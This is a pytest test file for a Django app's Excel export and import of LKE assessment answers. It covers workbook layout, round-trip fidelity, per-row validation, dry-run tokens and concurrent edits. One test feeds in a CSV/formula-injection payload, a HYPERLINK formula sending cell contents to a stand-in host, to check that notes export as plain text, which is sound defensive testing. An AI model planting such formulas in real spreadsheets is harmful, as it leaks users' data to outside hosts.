"""Excel export in the LKE layout and import with a dry run: export, import back,
identical answers; per-row errors; nothing half-saved."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django_scopes import scope
from openpyxl import load_workbook

from apps.assessment import services
from apps.assessment.excel import HEADERS
from apps.assessment.models import Answer

from .conftest import at_stage, save

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def answered(tpu_assessment, lead):
    save(lead, tpu_assessment, "PPA1A", "Ya", note="SK sudah ada.")
    save(lead, tpu_assessment, "PPA1B", "B", note="Tambahkan SOP pemilihan anggota.", rec=True)
    save(lead, tpu_assessment, "PRA1A", {"agents": 4, "changes": 3})
    save(lead, tpu_assessment, "PRC3A", {"last_year": 5, "this_year": 2, "sanctioned": 1})
    save(lead, tpu_assessment, "HBA", "3.62")
    save(lead, tpu_assessment, "HPA", "3")


def export(client, assessment) -> bytes:
    response = client.get(reverse("assessment:export", args=[assessment.pk]))
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    return response.content


def upload(client, assessment, content: bytes, name="lke.xlsx"):
    return client.post(
        reverse("assessment:import", args=[assessment.pk]),
        {"file": SimpleUploadedFile(name, content, content_type=XLSX)},
    )


def state(assessment):
    return {
        a.question.code: (a.value, a.note, a.is_recommendation)
        for a in Answer.objects.filter(assessment=assessment).select_related("question")
    }


def test_the_workbook_follows_the_lke_layout(client_for, tpu_assessment, tpu_user):
    answered(tpu_assessment, tpu_user)
    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
    sheet = book["LKE"]
    rows = list(sheet.iter_rows(values_only=True))
    header = next(i for i, r in enumerate(rows) if list(r[: len(HEADERS)]) == HEADERS)
    by_code = {r[0]: r for r in rows[header + 1 :] if r[0]}
    assert len(by_code) == 113
    assert by_code["PRA1A"][6] == (
        "3 perubahan yang dibuat agen perubahan / 4 agen perubahan = 75 %"
    )
    assert by_code["PRA1A"][7] == 75
    assert by_code["HBA"][6] == 3.62 and by_code["PPA1B"][11] == "Ya"
    assert rows[header + 1][1] == "MP"  # the area heading row
    assert "Rekap" in book.sheetnames


def test_export_then_import_gives_identical_answers(
    client_for, admin, cycle, tpu_assessment, tpu_user, tpi_user
):
    answered(tpu_assessment, tpu_user)
    content = export(client_for(tpu_user), tpu_assessment)
    # Into the same assessment: nothing changes.
    response = upload(client_for(tpu_user), tpu_assessment, content)
    assert response.status_code == 200
    assert 'data-testid="import-nochange"' in response.content.decode()
    # Into a fresh assessment of the cycle (the TPI's): the same answers, notes and flags.
    at_stage(cycle, "evaluasi_tpi")
    with scope(tenant=cycle.tenant_id):
        tpi = services.assessment_open(actor=admin, cycle=cycle, level="tpi", lead=tpi_user)
    client = client_for(tpi_user)
    preview = upload(client, tpi, content)
    assert preview.status_code == 200
    assert not Answer.objects.filter(assessment=tpi).exists()  # a dry run writes nothing
    token = preview.context["token"]
    done = client.post(reverse("assessment:import_confirm", args=[tpi.pk]), {"token": token})
    assert done.status_code == 302
    assert state(tpi) == state(tpu_assessment)
    # And back out again: the second export reads the same as the first.
    again = load_workbook(io.BytesIO(export(client, tpi)))["LKE"]
    first = load_workbook(io.BytesIO(content))["LKE"]
    columns = [HEADERS.index(c) for c in ("Kode", "Jawaban", "Catatan", "Rekomendasi")]
    pick = lambda sheet: [  # noqa: E731
        [row[i] for i in columns] for row in sheet.iter_rows(min_row=6, values_only=True)
    ]
    assert pick(again) == pick(first)


def test_import_reports_every_bad_row_and_saves_nothing(client_for, tpu_assessment, tpu_user):
    answered(tpu_assessment, tpu_user)
    before = state(tpu_assessment)
    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
    sheet = book["LKE"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=7) if row[0].value}
    rows["PPA1A"][6].value = "Tidak"  # a good change, not saved because of the others
    rows["PPA1B"][6].value = "Z"
    rows["PRA1A"][6].value = "agents=-1; changes=3"
    rows["HBA"][6].value = 9
    rows["PPA2A"][0].value = "XX9"
    rows["PPA2B"][11].value = "Ya"  # a recommendation without a note
    out = io.BytesIO()
    book.save(out)
    response = upload(client_for(tpu_user), tpu_assessment, out.getvalue())
    assert response.status_code == 400
    body = response.content.decode()
    for text in (
        "tidak tersedia",
        "tidak boleh negatif",
        "di luar rentang",
        "XX9",
        "catatannya kosong",
    ):
        assert text in body, text
    assert "token" not in response.context or not response.context.get("token")
    assert state(tpu_assessment) == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"bukan excel", "buku kerja Excel"),
        (b"PK\x03\x04rusak", "rusak"),
    ],
)
def test_a_file_that_is_not_an_lke_workbook_gets_one_clear_message(
    client_for, tpu_assessment, tpu_user, content, message
):
    response = upload(client_for(tpu_user), tpu_assessment, content)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_a_workbook_without_the_lke_sheet_is_refused(client_for, tpu_assessment, tpu_user):
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    response = upload(client_for(tpu_user), tpu_assessment, out.getvalue())
    assert response.status_code == 400
    assert "LKE" in response.content.decode() and "tidak ditemukan" in response.content.decode()


def test_an_answer_changed_since_the_dry_run_stops_the_import(
    client_for, tpu_assessment, tpu_user, tpu_user_tl
):
    answered(tpu_assessment, tpu_user)
    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
    for row in book["LKE"].iter_rows(min_row=7):
        if row[0].value == "PPB1A":
            row[6].value = "A"
    out = io.BytesIO()
    book.save(out)
    client = client_for(tpu_user)
    preview = upload(client, tpu_assessment, out.getvalue())
    token = preview.context["token"]
    save(tpu_user_tl, tpu_assessment, "PPB1B", "C")  # someone saves meanwhile
    response = client.post(
        reverse("assessment:import_confirm", args=[tpu_assessment.pk]), {"token": token}
    )
    assert response.status_code == 302
    assert not Answer.objects.filter(assessment=tpu_assessment, question__code="PPB1A").exists()


def test_a_wrong_token_writes_nothing(client_for, tpu_assessment, tpu_user):
    response = client_for(tpu_user).post(
        reverse("assessment:import_confirm", args=[tpu_assessment.pk]), {"token": "palsu"}
    )
    assert response.status_code == 302
    assert not Answer.objects.exists()


def test_a_computed_answer_reads_as_a_sentence_on_the_result_page_and_back_on_import(
    client_for, tpu_assessment, tpu_user
):
    answered(tpu_assessment, tpu_user)
    page = (
        client_for(tpu_user)
        .get(reverse("assessment:result", args=[tpu_assessment.pk]))
        .content.decode()
    )
    assert "3 perubahan yang dibuat agen perubahan / 4 agen perubahan = 75 %" in page
    assert "agents=" not in page
    assert "Proyeksi predikat" in page and "hanya ditetapkan oleh TPN" in page
    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
    assert any(r[0] == "Proyeksi predikat" for r in book["Rekap"].iter_rows(values_only=True))
    # The sentence is read back: edited to 2 of 4, the import sees a change to 50 %.
    rows = {r[0].value: r for r in book["LKE"].iter_rows() if r[0].value}
    rows["PRA1A"][6].value = "2 perubahan yang dibuat agen perubahan / 4 agen perubahan = 75 %"
    out = io.BytesIO()
    book.save(out)
    response = upload(client_for(tpu_user), tpu_assessment, out.getvalue())
    assert response.status_code == 200, response.content.decode()[:2000]
    assert "PRA1A" in response.content.decode()


def test_a_note_that_looks_like_a_formula_is_exported_as_text_and_imports_back(
    client_for, admin, cycle, tpu_assessment, tpu_user, tpi_user
):
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    save(tpu_user, tpu_assessment, "PPA1A", "Ya", note=evil)
    save(tpu_user, tpu_assessment, "PPA1B", "B", note="-2+3 bukan rumus")
    content = export(client_for(tpu_user), tpu_assessment)
    sheet = load_workbook(io.BytesIO(content))["LKE"]
    note_column = HEADERS.index("Catatan")
    cells = {r[0].value: r[note_column] for r in sheet.iter_rows() if r[0].value}
    assert cells["PPA1A"].value == evil
    assert cells["PPA1A"].data_type == "s" and cells["PPA1A"].quotePrefix
    assert cells["PPA1B"].data_type == "s" and cells["PPA1B"].quotePrefix
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    # The TPI imports the TPU's file: the note is the text, not a formula's result.
    at_stage(cycle, "evaluasi_tpi")
    with scope(tenant=cycle.tenant_id):
        tpi = services.assessment_open(actor=admin, cycle=cycle, level="tpi", lead=tpi_user)
    client = client_for(tpi_user)
    preview = upload(client, tpi, content)
    client.post(
        reverse("assessment:import_confirm", args=[tpi.pk]), {"token": preview.context["token"]}
    )
    assert state(tpi)["PPA1A"][1] == evil
    assert state(tpi)["PPA1B"][1] == "-2+3 bukan rumus"
